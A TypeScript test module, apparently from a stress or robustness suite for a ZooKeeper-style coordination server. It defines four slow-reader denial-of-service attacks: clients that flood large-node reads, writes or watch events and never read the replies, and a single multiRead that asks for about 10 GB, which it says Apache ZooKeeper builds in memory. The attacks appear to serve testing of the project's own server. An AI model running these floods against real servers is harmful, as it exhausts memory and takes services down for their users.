/** Attacks by not reading: the server owes more and more bytes to somebody who takes none. */
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { RawClient } from '../support/raw-client.ts';
import { framed } from '../support/raw-link.ts';
import {
  connectRequest,
  createBody,
  multiBody,
  Op,
  pathAndInt,
  pathAndWatch,
  request,
  setDataBody,
} from '../support/raw-requests.ts';
import { isFullCount } from '../support/server.ts';
import { disperse, hold, openSocket } from './crowd.ts';
import type { Attack, Target } from './measure.ts';

const SILENT_READERS = isFullCount() ? 32 : 8;
const SILENT_WATCHERS = isFullCount() ? 100 : 20;
const LARGE_BYTES = 500_000;
const REQUESTS_AT_ONCE = 500;
const PERSISTENT = 0;
/** Events are as long as the path they name. */
const LONG_NAME = 'n'.repeat(1000);
const EVENTS_AT_ONCE = 200;
const READS_IN_ONE = 20_000;

const handshake = framed(connectRequest({ timeoutMs: 40_000 }));

async function prepare(port: number, path: string, data: string): Promise<void> {
  const client = await RawClient.connect({ port });
  await client.call(Op.create, createBody(path));
  await client.must(Op.setData, setDataBody(path, data));
  await client.closeSession();
}

/** Sessions that send and never read. */
async function silentCrowd(port: number, count: number, requests: Buffer): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let i = 0; i < count; i += 1) {
    const socket = await openSocket(port, false);
    if (socket === undefined) continue;
    socket.write(Buffer.concat([handshake, requests]));
    sockets.push(socket);
  }
  return sockets;
}

/** Sends the same again and again, as far as the server lets it in. */
async function keepAsking(
  sockets: readonly Socket[],
  requests: Buffer,
  { goesOn }: Target,
): Promise<void> {
  while (goesOn()) {
    for (const socket of sockets) {
      if (!socket.destroyed && socket.writableLength < 2 ** 20) socket.write(requests);
    }
    await sleep(20);
  }
}

function repeated(payload: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => framed(payload)));
}

export const outputAttacks: readonly Attack[] = [
  {
    name: `${SILENT_READERS} sessions that ask for large nodes and never read`,
    run: async (target) => {
      await prepare(target.port, '/large', 'l'.repeat(LARGE_BYTES));
      const reads = repeated(request(1, Op.getData, pathAndWatch('/large')), REQUESTS_AT_ONCE);
      const sockets = await silentCrowd(target.port, SILENT_READERS, reads);
      await keepAsking(sockets, reads, target);
      disperse(sockets);
    },
  },
  {
    name: `${SILENT_READERS} sessions that write and never read`,
    run: async (target) => {
      await prepare(target.port, '/written', '');
      const writes = repeated(request(1, Op.setData, setDataBody('/written', 'w'.repeat(100))), 50);
      const sockets = await silentCrowd(target.port, SILENT_READERS, writes);
      await keepAsking(sockets, writes, target);
      disperse(sockets);
    },
  },
  {
    name: `${SILENT_WATCHERS} sessions that watch a busy node and never read`,
    run: async (target) => {
      const path = `/${LONG_NAME}`;
      await prepare(target.port, path, '');
      const watch = framed(request(1, Op.addWatch, pathAndInt(path, PERSISTENT)));
      const sockets = await silentCrowd(target.port, SILENT_WATCHERS, watch);
      const writer = await RawClient.connect({ port: target.port });
      while (target.goesOn()) {
        const batch = Array.from({ length: EVENTS_AT_ONCE }, () =>
          writer.must(Op.setData, setDataBody(path, '')),
        );
        await Promise.all(batch);
      }
      writer.destroy();
      disperse(sockets);
    },
  },
  {
    name: `one multiRead that asks for ${(READS_IN_ONE * LARGE_BYTES) / 1e9} GB`,
    harmsApache: 'it builds the whole answer in memory',
    run: async (target) => {
      await prepare(target.port, '/large', 'l'.repeat(LARGE_BYTES));
      const parts = Array.from({ length: READS_IN_ONE }, () => ({
        type: Op.getData,
        body: pathAndWatch('/large'),
      }));
      const asking = framed(request(1, Op.multiRead, multiBody(parts)));
      const sockets = await silentCrowd(target.port, 4, asking);
      await hold(target.goesOn);
      disperse(sockets);
    },
  },
];
